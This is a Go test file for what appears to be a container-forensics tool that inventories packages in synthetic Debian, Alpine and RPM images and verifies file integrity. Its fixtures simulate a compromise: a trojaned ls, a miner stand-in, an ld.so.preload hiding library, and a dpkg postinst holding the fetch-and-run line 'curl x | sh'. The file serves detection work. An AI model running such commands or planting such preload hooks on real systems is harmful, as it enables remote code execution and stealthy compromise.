package packages_test

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/md5"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/forensics"
	"github.com/strata-forensics/strata/forensics/imagebuild"
	"github.com/strata-forensics/strata/forensics/internal/md5x"
	"github.com/strata-forensics/strata/forensics/packages"
)

func md5hex(s string) string { h := md5.Sum([]byte(s)); return hex.EncodeToString(h[:]) }
func elf(name string) string {
	return "\x7fELF\x02\x01\x01\x00" + strings.Repeat("code of "+name+"\n", 8)
}
func q1(s string) string {
	h := sha1.Sum([]byte(s))
	return "Q1" + base64.StdEncoding.EncodeToString(h[:])
}
func record(s string) string {
	h := sha256.Sum256([]byte(s))
	return "sha256=" + base64.RawURLEncoding.EncodeToString(h[:])
}

var (
	lsELF   = elf("ls")
	catELF  = elf("cat")
	curlELF = elf("curl")
)

const debOSRelease = "ID=debian\nVERSION_ID=\"12\"\nVERSION_CODENAME=bookworm\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n"

func status(stanzas ...string) string { return strings.Join(stanzas, "\n") }

const coreutilsStanza = "Package: coreutils\nStatus: install ok installed\nArchitecture: amd64\nVersion: 9.1-1\nDescription: GNU core utilities\n"
const baseFilesStanza = "Package: base-files\nStatus: install ok installed\nArchitecture: amd64\nVersion: 12.4+deb12u5\nConffiles:\n /etc/issue %s\n /etc/debian_version %s\nDescription: base\n"
const removedStanza = "Package: oldpkg\nStatus: deinstall ok config-files\nArchitecture: amd64\nVersion: 1.0\n"

const issue = "Debian GNU/Linux 12 \\n \\l\n"

func baseFiles() string { return fmt.Sprintf(baseFilesStanza, md5hex(issue), md5hex("12.5\n")) }

func curlStanza(v string) string {
	return "Package: curl\nStatus: install ok installed\nArchitecture: amd64\nSource: curl (" + v + ")\nVersion: " + v + "+b1\nDescription: curl\n"
}

// debianImage is a small usrmerged Debian: coreutils and base-files in the base layer, curl
// installed by the next one, then whatever extra layers a test adds.
func debianImage(extra ...imagebuild.Layer) imagebuild.Image {
	base := []imagebuild.File{
		imagebuild.Symlink("bin", "usr/bin"),
		imagebuild.Dir("etc"),
		imagebuild.Reg("etc/debian_version", "12.5\n"),
		imagebuild.Reg("etc/issue", issue),
		imagebuild.Reg("etc/ld.so.cache", "glibc-ld.so.cache1.1"),
		imagebuild.Reg("etc/os-release", debOSRelease),
		imagebuild.Dir("usr/bin"),
		imagebuild.Reg("usr/bin/ls", lsELF).WithMode(0o755),
		imagebuild.Reg("usr/bin/cat", catELF).WithMode(0o755),
		imagebuild.Dir("var/lib/dpkg/info"),
		imagebuild.Reg("var/lib/dpkg/status", status(coreutilsStanza, baseFiles(), removedStanza)),
		imagebuild.Reg("var/lib/dpkg/info/coreutils.list", "/.\n/bin\n/bin/ls\n/bin/cat\n"),
		imagebuild.Reg("var/lib/dpkg/info/coreutils.md5sums", md5hex(lsELF)+"  bin/ls\n"+md5hex(catELF)+"  bin/cat\n"),
		imagebuild.Reg("var/lib/dpkg/info/base-files.list", "/etc/debian_version\n/etc/issue\n"),
	}
	apt := []imagebuild.File{
		imagebuild.Reg("usr/bin/curl", curlELF).WithMode(0o755),
		imagebuild.Reg("var/lib/dpkg/status", status(coreutilsStanza, baseFiles(), curlStanza("7.88.1-10"))),
		imagebuild.Reg("var/lib/dpkg/info/curl:amd64.list", "/usr/bin/curl\n"),
		imagebuild.Reg("var/lib/dpkg/info/curl:amd64.md5sums", md5hex(curlELF)+"  usr/bin/curl\n"),
	}
	layers := []imagebuild.Layer{
		{Files: base, CreatedBy: "/bin/sh -c #(nop) ADD file:x in / "},
		{Files: apt, CreatedBy: "RUN /bin/sh -c apt-get install -y curl"},
	}
	return imagebuild.Image{Tags: []string{"example.test/deb:1"}, Layers: append(layers, extra...)}
}

func read(t *testing.T, img imagebuild.Image) *packages.Result {
	t.Helper()
	r, err := packages.Read(context.Background(), open(t, img), t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func open(t *testing.T, img imagebuild.Image) *forensics.Image {
	t.Helper()
	b, err := imagebuild.Build(img)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	p := filepath.Join(dir, "image.tar")
	var buf bytes.Buffer
	if err := imagebuild.WriteOCIArchive(&buf, b); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, buf.Bytes(), 0o444); err != nil {
		t.Fatal(err)
	}
	fi, err := forensics.Open(context.Background(), p, forensics.OpenOptions{TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { fi.Close() })
	return fi
}

func find(inv *packages.Inventory, eco packages.Ecosystem, name string) *packages.Package {
	for i := range inv.Packages {
		if inv.Packages[i].Ecosystem == eco && inv.Packages[i].Name == name {
			return &inv.Packages[i]
		}
	}
	return nil
}

func TestDpkgInventory(t *testing.T) {
	r := read(t, debianImage())
	inv := r.Inventory
	if inv.OS.ID != "debian" || inv.OS.VersionID != "12" {
		t.Errorf("OS = %+v", inv.OS)
	}
	tests := []struct {
		name, version, source, sourceVersion string
		layer, files                         int
	}{
		{"base-files", "12.4+deb12u5", "", "", 0, 2},
		{"coreutils", "9.1-1", "", "", 0, 3},
		{"curl", "7.88.1-10+b1", "", "7.88.1-10", 1, 1},
	}
	if got := len(inv.Packages); got != len(tests) {
		t.Fatalf("got %d packages, want %d: %+v", got, len(tests), inv.Packages)
	}
	for _, tt := range tests {
		p := find(inv, packages.Deb, tt.name)
		if p == nil {
			t.Errorf("%s missing", tt.name)
			continue
		}
		if p.Version != tt.version || p.Layer != tt.layer || len(p.Files) != tt.files || p.SourceVersion != tt.sourceVersion {
			t.Errorf("%s = %s layer %d, %d files, source version %q; want %s layer %d, %d files, %q",
				tt.name, p.Version, p.Layer, len(p.Files), p.SourceVersion, tt.version, tt.layer, tt.files, tt.sourceVersion)
		}
	}
	if got := find(inv, packages.Deb, "curl").PURL(inv.OS); got != "pkg:deb/debian/curl@7.88.1-10%2Bb1?arch=amd64&distro=debian-12" {
		t.Errorf("purl = %s", got)
	}
	in := r.Integrity
	if len(in.Mismatches) != 0 || len(in.Unpackaged) != 0 {
		t.Errorf("clean image: mismatches %+v, unpackaged %+v", in.Mismatches, in.Unpackaged)
	}
	// ls, cat, curl by md5sums; debian_version and issue by Conffiles.
	if in.Checked != 5 {
		t.Errorf("checked %d files, want 5", in.Checked)
	}
}

func TestIntegrityCatchesTrojanAndImplant(t *testing.T) {
	r := read(t, debianImage(imagebuild.Layer{CreatedBy: "RUN /bin/sh -c true", Files: []imagebuild.File{
		imagebuild.Reg("usr/bin/ls", elf("ls trojaned")).WithMode(0o755),
		imagebuild.Reg("usr/bin/kworker", elf("miner")).WithMode(0o755),
		imagebuild.Reg("usr/lib/x86_64-linux-gnu/libhide.so", elf("hide")),
		imagebuild.Reg("etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libhide.so\n"),
		imagebuild.Reg("usr/lib/python3/dist-packages/__pycache__/x.cpython-311.pyc", "compiled"),
	}}))
	var bins []string
	for _, m := range r.Integrity.Mismatches {
		if !m.Conffile {
			bins = append(bins, fmt.Sprintf("%s %s %s layer %d exec=%v", m.Package, m.Path, m.Listed, m.Layer, m.Executable))
		}
	}
	if want := []string{"coreutils /usr/bin/ls /bin/ls layer 2 exec=true"}; fmt.Sprint(bins) != fmt.Sprint(want) {
		t.Errorf("mismatches = %q, want %q", bins, want)
	}
	var un []string
	for _, u := range r.Integrity.Unpackaged {
		un = append(un, fmt.Sprintf("%s %v", u.Path, u.Executable))
	}
	want := []string{"/etc/ld.so.preload true", "/usr/bin/kworker true", "/usr/lib/x86_64-linux-gnu/libhide.so true"}
	if fmt.Sprint(un) != fmt.Sprint(want) {
		t.Errorf("unpackaged = %q, want %q", un, want)
	}
}

// Files over the pass's content cap are summed as they stream by, so that Check has every
// digest without reading a layer again (it is given no image to read).
func TestBigFilesSummedInThePass(t *testing.T) {
	img := open(t, debianImage(imagebuild.Layer{CreatedBy: "RUN /bin/sh -c true", Files: []imagebuild.File{
		imagebuild.Reg("usr/bin/ls", elf("ls trojaned")+strings.Repeat("\x00", 8<<10)).WithMode(0o644),
	}}))
	c := packages.NewCollector()
	layers, err := img.ReadLayers(context.Background(), forensics.ReadOptions{Visit: c.Visit, Stream: c.Stream, ContentCap: 4 << 10})
	if err != nil {
		t.Fatal(err)
	}
	tree := forensics.Stack(layers)
	inv := c.Inventory(tree, t.TempDir())
	in, err := c.Check(context.Background(), nil, tree, inv)
	if err != nil {
		t.Fatal(err)
	}
	if in.Unverified != 0 || in.Checked == 0 {
		t.Errorf("checked %d, unverified %d; want none unverified", in.Checked, in.Unverified)
	}
	var got []string
	for _, m := range in.Mismatches {
		got = append(got, fmt.Sprintf("%s exec=%v", m.Path, m.Executable))
	}
	// Not executable by mode: only the streamed ELF magic says it is a program.
	if want := []string{"/usr/bin/ls exec=true"}; fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("mismatches = %q, want %q", got, want)
	}
}

// A layer may hold the same path twice; the last copy is the file, and its md5 is the one
// checked, whichever copy the pass finished hashing first (hashed side by side, a long copy
// ends after a short one that came after it).
func TestLastCopyOfAPathIsChecked(t *testing.T) {
	img := open(t, debianImage())
	for _, tc := range []struct {
		name  string
		decoy []byte
	}{
		{"long copy first", bytes.Repeat([]byte("decoy "), 100<<10)},
		{"copy too big for the lanes first", bytes.Repeat([]byte("decoy "), (md5x.MaxHeld+600)/6)},
		{"small copy first", []byte("decoy")},
		{"empty copy first", []byte{}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := packages.NewCollector()
			visit := func(layer int, e *forensics.Entry, data []byte) {
				if e.Path == "/usr/bin/curl" {
					d := *e
					d.Size = int64(len(tc.decoy))
					c.Visit(layer, &d, tc.decoy)
				}
				c.Visit(layer, e, data)
			}
			layers, err := img.ReadLayers(context.Background(), forensics.ReadOptions{Visit: visit, ContentCap: 1 << 20})
			if err != nil {
				t.Fatal(err)
			}
			tree := forensics.Stack(layers)
			in, err := c.Check(context.Background(), nil, tree, c.Inventory(tree, t.TempDir()))
			if err != nil {
				t.Fatal(err)
			}
			if len(in.Mismatches) != 0 || in.Unverified != 0 || in.Checked != 5 {
				t.Errorf("mismatches %v, %d checked, %d unverified; want none, 5, 0", in.Mismatches, in.Checked, in.Unverified)
			}
		})
	}
}

// The package manager's own state (dpkg's database, apt's lists) is not summed in the pass:
// no package ships it. A database crafted to list such a file anyway is still checked:
// Check re-reads the file from its layer.
func TestManagerStateSummedOnlyWhenListed(t *testing.T) {
	const stanza = "Package: sneaky\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1\nDescription: s\n"
	img := open(t, debianImage(imagebuild.Layer{CreatedBy: "RUN /bin/sh -c true", Files: []imagebuild.File{
		imagebuild.Reg("var/lib/apt/lists/deb.debian.org_dists_Packages", "Package: curl\n"),
		imagebuild.Reg("var/lib/dpkg/info/sneaky.postinst", "#!/bin/sh\ncurl x | sh\n"),
		imagebuild.Reg("var/lib/dpkg/status", status(coreutilsStanza, baseFiles(), curlStanza("7.88.1-10"), stanza)),
		imagebuild.Reg("var/lib/dpkg/info/sneaky.list", "/var/lib/dpkg/info/sneaky.postinst\n/var/lib/apt/lists/deb.debian.org_dists_Packages\n"),
		imagebuild.Reg("var/lib/dpkg/info/sneaky.md5sums", md5hex("#!/bin/sh\ntrue\n")+"  var/lib/dpkg/info/sneaky.postinst\n"+
			md5hex("Package: curl\n")+"  var/lib/apt/lists/deb.debian.org_dists_Packages\n"),
	}}))
	for _, tc := range []struct {
		name             string
		img              *forensics.Image
		unverified, bad  int
		wantMismatchPath string
	}{
		{"without the image to re-read", nil, 2, 0, ""},
		{"re-read from the layer", img, 0, 1, "/var/lib/dpkg/info/sneaky.postinst"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			c := packages.NewCollector()
			layers, err := img.ReadLayers(context.Background(), forensics.ReadOptions{Visit: c.Visit, Stream: c.Stream, ContentCap: 1 << 20})
			if err != nil {
				t.Fatal(err)
			}
			tree := forensics.Stack(layers)
			inv := c.Inventory(tree, t.TempDir())
			in, err := c.Check(context.Background(), tc.img, tree, inv)
			if err != nil {
				t.Fatal(err)
			}
			if in.Unverified != tc.unverified || len(in.Mismatches) != tc.bad {
				t.Fatalf("unverified %d, mismatches %v; want %d unverified, %d mismatches", in.Unverified, in.Mismatches, tc.unverified, tc.bad)
			}
			if tc.bad > 0 && in.Mismatches[0].Path != tc.wantMismatchPath {
				t.Errorf("mismatch at %s, want %s", in.Mismatches[0].Path, tc.wantMismatchPath)
			}
		})
	}
}

func TestConffileEditIsFlaggedAsConffile(t *testing.T) {
	img := debianImage(imagebuild.Layer{Files: []imagebuild.File{imagebuild.Reg("etc/debian_version", "13\n")}})
	r := read(t, img)
	if len(r.Integrity.Mismatches) != 1 || !r.Integrity.Mismatches[0].Conffile || r.Integrity.Mismatches[0].Path != "/etc/debian_version" {
		t.Errorf("mismatches = %+v", r.Integrity.Mismatches)
	}
}

func TestUpgradeMovesLayer(t *testing.T) {
	newCurl := elf("curl 2")
	r := read(t, debianImage(imagebuild.Layer{Files: []imagebuild.File{
		imagebuild.Reg("usr/bin/curl", newCurl).WithMode(0o755),
		imagebuild.Reg("var/lib/dpkg/status", status(coreutilsStanza, baseFiles(), curlStanza("7.88.1-10+deb12u5"))),
		imagebuild.Reg("var/lib/dpkg/info/curl:amd64.md5sums", md5hex(newCurl)+"  usr/bin/curl\n"),
	}}))
	p := find(r.Inventory, packages.Deb, "curl")
	if p.Layer != 2 || p.Version != "7.88.1-10+deb12u5+b1" {
		t.Errorf("curl = %s layer %d, want the upgrade in layer 2", p.Version, p.Layer)
	}
	if c := find(r.Inventory, packages.Deb, "coreutils"); c.Layer != 0 {
		t.Errorf("coreutils layer %d, want 0", c.Layer)
	}
	if len(r.Integrity.Mismatches) != 0 {
		t.Errorf("mismatches %+v", r.Integrity.Mismatches)
	}
}

func TestDiversion(t *testing.T) {
	// A local diversion moves coreutils' /bin/ls aside; the real ls lives at ls.distrib and
	// an admin's wrapper stands at /bin/ls.
	r := read(t, debianImage(imagebuild.Layer{Files: []imagebuild.File{
		imagebuild.Reg("usr/bin/ls.distrib", lsELF).WithMode(0o755),
		imagebuild.Reg("usr/bin/ls", "#!/bin/sh\nexec /bin/ls.distrib \"$@\"\n").WithMode(0o755),
		imagebuild.Reg("var/lib/dpkg/diversions", "/bin/ls\n/bin/ls.distrib\n:\n"),
	}}))
	if len(r.Integrity.Mismatches) != 0 {
		t.Errorf("mismatches %+v", r.Integrity.Mismatches)
	}
	if len(r.Integrity.Unpackaged) != 1 || r.Integrity.Unpackaged[0].Path != "/usr/bin/ls" {
		t.Errorf("unpackaged %+v, want the wrapper at /usr/bin/ls", r.Integrity.Unpackaged)
	}
}

func TestAPK(t *testing.T) {
	busybox := elf("busybox")
	ssl := elf("libssl")
	installed := "C:Q1abc=\nP:busybox\nV:1.36.1-r15\nA:x86_64\no:busybox\nF:bin\nR:busybox\na:0:0:755\nZ:" + q1(busybox) + "\n\n" +
		"P:libssl3\nV:3.1.4-r5\nA:x86_64\no:openssl\nF:lib\nR:libssl.so.3\nZ:" + q1(ssl) + "\n\n"
	r := read(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: []imagebuild.File{
		imagebuild.Reg("bin/busybox", busybox).WithMode(0o755),
		imagebuild.Reg("etc/os-release", "ID=alpine\nVERSION_ID=3.19.1\n"),
		imagebuild.Reg("lib/apk/db/installed", installed),
		imagebuild.Reg("lib/libssl.so.3", elf("libssl trojaned")),
	}}}})
	inv := r.Inventory
	ssl3 := find(inv, packages.APK, "libssl3")
	if ssl3 == nil || ssl3.Source != "openssl" || ssl3.Version != "3.1.4-r5" || len(ssl3.Files) != 1 || ssl3.Files[0].Algorithm != packages.SHA1 {
		t.Fatalf("libssl3 = %+v", ssl3)
	}
	if bb := find(inv, packages.APK, "busybox"); bb == nil || bb.Source != "" {
		t.Errorf("busybox = %+v", bb)
	}
	if len(r.Integrity.Mismatches) != 1 || r.Integrity.Mismatches[0].Path != "/lib/libssl.so.3" || !r.Integrity.Mismatches[0].Executable {
		t.Errorf("mismatches = %+v", r.Integrity.Mismatches)
	}
	if r.Integrity.Checked != 2 {
		t.Errorf("checked %d, want 2", r.Integrity.Checked)
	}
}

func TestLanguagePackages(t *testing.T) {
	initPy := "__version__ = '2.31.0'\n"
	var jar bytes.Buffer
	zw := zip.NewWriter(&jar)
	w, _ := zw.Create("META-INF/MANIFEST.MF")
	w.Write([]byte("Manifest-Version: 1.0\r\nImplementation-Title: log4j-core\r\nImplementation-Version: 2.14.1\r\n\r\n"))
	w, _ = zw.Create("META-INF/maven/org.apache.logging.log4j/log4j-core/pom.properties")
	w.Write([]byte("#Created by Maven\ngroupId=org.apache.logging.log4j\nartifactId=log4j-core\nversion=2.14.1\n"))
	zw.Close()
	self, err := os.ReadFile(os.Args[0])
	if err != nil {
		t.Fatal(err)
	}
	site := "usr/local/lib/python3.11/site-packages/"
	r := read(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: []imagebuild.File{
		imagebuild.Reg(site+"requests-2.31.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: requests\nVersion: 2.31.0\n\nLong description: Name: nope\n"),
		imagebuild.Reg(site+"requests-2.31.0.dist-info/RECORD", "requests/__init__.py,"+record(initPy)+",22\nrequests-2.31.0.dist-info/RECORD,,\n"),
		imagebuild.Reg(site+"requests/__init__.py", initPy),
		imagebuild.Reg(site+"six-1.16.0.egg-info", "Metadata-Version: 1.1\nName: six\nVersion: 1.16.0\n"),
		imagebuild.Reg("app/node_modules/lodash/package.json", `{"name":"lodash","version":"4.17.20"}`),
		imagebuild.Reg("app/node_modules/@babel/core/package.json", `{"name":"@babel/core","version":"7.22.0"}`),
		imagebuild.Reg("app/node_modules/lodash/test/package.json", `{"name":"fixture","version":"0.0.0"}`),
		imagebuild.RegBytes("opt/app/lib/log4j-core-2.14.1.jar", jar.Bytes()),
		imagebuild.RegBytes("usr/local/bin/tool", self).WithMode(0o755),
	}}}})
	inv := r.Inventory
	for _, want := range []struct {
		eco           packages.Ecosystem
		name, version string
	}{
		{packages.PyPI, "requests", "2.31.0"},
		{packages.PyPI, "six", "1.16.0"},
		{packages.NPM, "lodash", "4.17.20"},
		{packages.NPM, "@babel/core", "7.22.0"},
		{packages.Maven, "org.apache.logging.log4j:log4j-core", "2.14.1"},
		{packages.Golang, "stdlib", strings.TrimPrefix(runtimeVersion(t), "go")},
	} {
		p := find(inv, want.eco, want.name)
		if p == nil || p.Version != want.version {
			t.Errorf("%s %s = %+v, want version %s", want.eco, want.name, p, want.version)
		}
	}
	if find(inv, packages.NPM, "fixture") != nil {
		t.Error("a package.json below a package's own directory is not a package")
	}
	if p := find(inv, packages.PyPI, "requests"); len(p.Files) != 2 || p.Files[1].Algorithm != packages.SHA256 {
		t.Errorf("requests files = %+v", p.Files)
	}
	if n := len(r.Integrity.Mismatches); n != 0 || r.Integrity.Checked != 1 {
		t.Errorf("mismatches %+v, checked %d", r.Integrity.Mismatches, r.Integrity.Checked)
	}
	if got := find(inv, packages.NPM, "@babel/core").PURL(inv.OS); got != "pkg:npm/%40babel/core@7.22.0" {
		t.Errorf("purl = %s", got)
	}
	// A Go binary's build info and a jar's manifest describe the file itself: neither makes it
	// owned by a package (a trojan built with Go would otherwise pass as package churn).
	owners := inv.Owners(r.Tree)
	for _, p := range []string{"/usr/local/bin/tool", "/opt/app/lib/log4j-core-2.14.1.jar"} {
		if o := owners[p]; o != nil {
			t.Errorf("%s owned by %s %s", p, o.Ecosystem, o.Name)
		}
	}
	if o := owners["/usr/local/lib/python3.11/site-packages/requests/__init__.py"]; o == nil || o.Name != "requests" {
		t.Errorf("requests/__init__.py owner = %+v", o)
	}
}

func runtimeVersion(t *testing.T) string {
	out, err := exec.Command("go", "env", "GOVERSION").Output()
	if err != nil {
		t.Skip("go not on PATH")
	}
	return strings.TrimSpace(string(out))
}

// TestRPM reads the Fedora 35 sqlite rpmdb that go-rpmdb ships as test data (it is in the
// module cache wherever Strata builds); generating an rpm header blob by hand would test our
// encoder, not the reader.
func TestRPM(t *testing.T) {
	out, err := exec.Command("go", "list", "-m", "-f", "{{.Dir}}", "github.com/knqyf263/go-rpmdb").Output()
	if err != nil || strings.TrimSpace(string(out)) == "" {
		t.Skip("go-rpmdb's source is not in the module cache")
	}
	db, err := os.ReadFile(filepath.Join(strings.TrimSpace(string(out)), "pkg", "testdata", "fedora35", "rpmdb.sqlite"))
	if err != nil {
		t.Skip("go-rpmdb's fedora35 test database is not in the module cache:", err)
	}
	r := read(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: []imagebuild.File{
		imagebuild.Reg("etc/os-release", "ID=fedora\nVERSION_ID=35\n"),
		imagebuild.RegBytes("var/lib/rpm/rpmdb.sqlite", db),
	}}}})
	if len(r.Inventory.Problems) > 0 {
		t.Fatal(r.Inventory.Problems)
	}
	p := find(r.Inventory, packages.RPM, "libgcc")
	if p == nil || p.Source != "gcc" || !strings.HasPrefix(p.Version, "11.2.1-") || p.Arch != "x86_64" {
		t.Fatalf("libgcc = %+v", p)
	}
	var digests int
	for _, f := range p.Files {
		if f.Algorithm == packages.SHA256 {
			digests++
		}
	}
	if n := r.Inventory.Count()[packages.RPM]; n < 100 || digests == 0 {
		t.Errorf("%d rpm packages, libgcc with %d sha256 digests", n, digests)
	}
	// None of the files are in this image: nothing to compare, nothing mismatched.
	if len(r.Integrity.Mismatches) != 0 || r.Integrity.Missing == 0 {
		t.Errorf("integrity %+v", r.Integrity)
	}
}

func TestDebianLicensesSupplierAndDependencies(t *testing.T) {
	stanza := func(name, arch, extra string) string {
		return "Package: " + name + "\nStatus: install ok installed\nMaintainer: Team X <x@lists.example.test>\nArchitecture: " + arch + "\nVersion: 1.0\n" + extra
	}
	st := status(
		stanza("app", "amd64", "Pre-Depends: libc6 (>= 2.36)\nDepends: mail-transport-agent | exim4, libfoo1 | libbar1, missing-pkg, awk\n"),
		stanza("libc6", "amd64", ""),
		stanza("libc6", "i386", ""),
		stanza("postfix", "amd64", "Provides: mail-transport-agent\n"),
		stanza("libbar1", "amd64", "Depends: libc6\n"),
		stanza("mawk", "amd64", "Provides: awk\n"),
		stanza("noinfo", "all", "Depends: libc6\n"),
	)
	img := imagebuild.Image{Layers: []imagebuild.Layer{{Files: []imagebuild.File{
		imagebuild.Reg("etc/os-release", debOSRelease),
		imagebuild.Reg("var/lib/dpkg/status", st),
		imagebuild.Reg("usr/share/doc/app/copyright", dep5("GPL-2+", "Expat")),
		imagebuild.Reg("usr/share/doc/libc6/copyright", "Either version 2.1 of the License, or (at your option) any later version.\nSee /usr/share/common-licenses/LGPL-2.1.\n"),
		imagebuild.Symlink("usr/share/doc/libbar1", "app"), // shares app's doc directory
		imagebuild.Reg("usr/share/doc/mawk/copyright", "All rights reserved.\n"),
	}}}}
	inv := read(t, img).Inventory
	app := find(inv, packages.Deb, "app")
	if app == nil {
		t.Fatal("app not found")
	}
	if want := []string{"libc6:amd64", "postfix", "libbar1", "mawk"}; fmt.Sprint(app.Dependencies) != fmt.Sprint(want) {
		t.Errorf("app depends on %q, want %q (first installed alternative, providers of virtual names, this architecture's libc6)", app.Dependencies, want)
	}
	if want := []string{"GPL-2.0-or-later", "MIT"}; fmt.Sprint(app.Licenses) != fmt.Sprint(want) {
		t.Errorf("app licenses %q, want %q", app.Licenses, want)
	}
	if app.Supplier != "Team X <x@lists.example.test>" {
		t.Errorf("app supplier %q", app.Supplier)
	}
	if bar := find(inv, packages.Deb, "libbar1"); bar == nil || fmt.Sprint(bar.Licenses) != fmt.Sprint(app.Licenses) || fmt.Sprint(bar.Dependencies) != "[libc6:amd64]" {
		t.Errorf("libbar1 = %+v, want app's licenses through the doc link and libc6:amd64", bar)
	}
	for _, p := range inv.Packages {
		if p.Name == "libc6" && fmt.Sprint(p.Licenses) != "[LGPL-2.1-or-later]" {
			t.Errorf("libc6:%s licenses %q", p.Arch, p.Licenses)
		}
	}
	if m := find(inv, packages.Deb, "mawk"); m == nil || m.Licenses != nil {
		t.Errorf("mawk = %+v, want no license from a copyright file that names none", m)
	}
	if n := find(inv, packages.Deb, "noinfo"); n == nil || len(n.Licenses) != 0 || fmt.Sprint(n.Dependencies) != "[libc6:amd64]" {
		t.Errorf("noinfo = %+v", n)
	}
	refs := inv.Refs()
	if refs[packages.Deb]["libc6:i386"] == nil || refs[packages.Deb]["app"] == nil || refs[packages.Deb]["libc6"] != nil {
		t.Errorf("refs = %v", refs[packages.Deb])
	}
}

func dep5(licenses ...string) string {
	s := "Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/\n\n"
	for i, l := range licenses {
		s += fmt.Sprintf("Files: part%d/*\nCopyright: 2024 Someone\nLicense: %s\n\n", i, l)
	}
	return s
}

func TestAPKAndRPMMetadata(t *testing.T) {
	installed := "P:busybox\nV:1.36.1-r15\nA:x86_64\nL:GPL-2.0-only\nm:Sören Tempel <soeren+alpine@soeren-tempel.net>\nD:so:libc.musl-x86_64.so.1\np:cmd:sh=1.36.1-r15\n\n" +
		"P:musl\nV:1.2.4-r2\nA:x86_64\nL:MIT\np:so:libc.musl-x86_64.so.1=1\n\n" +
		"P:alpine-baselayout\nV:3.4.3-r2\nA:x86_64\nL:GPL2+\nD:/bin/sh busybox>=1.30 !conflicting\n\n"
	inv := read(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: []imagebuild.File{
		imagebuild.Reg("etc/os-release", "ID=alpine\nVERSION_ID=3.19.1\n"),
		imagebuild.Reg("lib/apk/db/installed", installed),
	}}}}).Inventory
	bb := find(inv, packages.APK, "busybox")
	if bb == nil || fmt.Sprint(bb.Licenses) != "[GPL-2.0-only]" || bb.Supplier != "Sören Tempel <soeren+alpine@soeren-tempel.net>" || fmt.Sprint(bb.Dependencies) != "[musl]" {
		t.Errorf("busybox = %+v", bb)
	}
	if ab := find(inv, packages.APK, "alpine-baselayout"); ab == nil || fmt.Sprint(ab.Licenses) != "[GPL-2.0-or-later]" || fmt.Sprint(ab.Dependencies) != "[busybox]" {
		t.Errorf("alpine-baselayout = %+v", ab)
	}
}

// TestCraftedRPMDatabases: the rpm databases that crashed the process (one in a goroutine no
// recover could reach) are problems in the inventory naming the file; what can be read is
// listed, and nothing is written.
func TestCraftedRPMDatabases(t *testing.T) {
	for name, db := range imagebuild.CraftedRPMDatabases() {
		t.Run(name, func(t *testing.T) {
			tmp := t.TempDir()
			loc := "/var/lib/rpm/" + name
			img := open(t, imagebuild.Image{Layers: []imagebuild.Layer{{Files: []imagebuild.File{
				imagebuild.Reg("etc/os-release", "ID=rhel\nVERSION_ID=9\n"),
				imagebuild.RegBytes(strings.TrimPrefix(loc, "/"), db),
			}}}})
			r, err := packages.Read(context.Background(), img, tmp)
			if err != nil {
				t.Fatal(err)
			}
			if len(r.Inventory.Problems) != 1 || !strings.HasPrefix(r.Inventory.Problems[0], "reading "+loc+": ") {
				t.Errorf("problems %q, want one naming %s", r.Inventory.Problems, loc)
			}
			if name == "rpmdb.sqlite" && find(r.Inventory, packages.RPM, "good") == nil {
				t.Errorf("the sound package of the database is not listed: %+v", r.Inventory.Packages)
			}
			if left, _ := os.ReadDir(tmp); len(left) != 0 {
				t.Errorf("files written: %v", left)
			}
		})
	}
}

// TestCopyrightLicensesPerContent holds the copyright files' parse, made once per content, to
// a parse of each file: packages sharing a text, texts of the same length that differ, and a
// later layer that replaces one package's text with another's.
func TestCopyrightLicensesPerContent(t *testing.T) {
	gpl2, gpl3, gpl2again := dep5("GPL-2+"), dep5("GPL-3+"), dep5("GPL-2+")
	plain := "See /usr/share/common-licenses/Apache-2.0.\n"
	if len(gpl2) != len(gpl3) {
		t.Fatal("the two texts must be the same length, to catch a cache keyed by size")
	}
	var stanzas []string
	for _, n := range []string{"a", "b", "c", "d", "e"} {
		stanzas = append(stanzas, "Package: "+n+"\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.0\n")
	}
	img := imagebuild.Image{Layers: []imagebuild.Layer{
		{Files: []imagebuild.File{
			imagebuild.Reg("etc/os-release", debOSRelease),
			imagebuild.Reg("var/lib/dpkg/status", status(stanzas...)),
			imagebuild.Reg("usr/share/doc/a/copyright", gpl2),
			imagebuild.Reg("usr/share/doc/b/copyright", gpl2again),
			imagebuild.Reg("usr/share/doc/c/copyright", gpl3),
			imagebuild.Reg("usr/share/doc/d/copyright", plain),
			imagebuild.Reg("usr/share/doc/e/copyright", gpl2),
		}},
		{Files: []imagebuild.File{
			imagebuild.Reg("usr/share/doc/b/copyright", gpl3),
			imagebuild.Reg("usr/share/doc/e/copyright", plain),
		}},
	}}
	inv := read(t, img).Inventory
	for name, text := range map[string]string{"a": gpl2, "b": gpl3, "c": gpl3, "d": plain, "e": plain} {
		want := packages.DebianCopyrightLicenses(text)
		p := find(inv, packages.Deb, name)
		if p == nil {
			t.Fatalf("package %s not found", name)
		}
		if len(want) == 0 || fmt.Sprint(p.Licenses) != fmt.Sprint(want) {
			t.Errorf("%s: licenses %q, want %q (its own copyright file's)", name, p.Licenses, want)
		}
	}
}
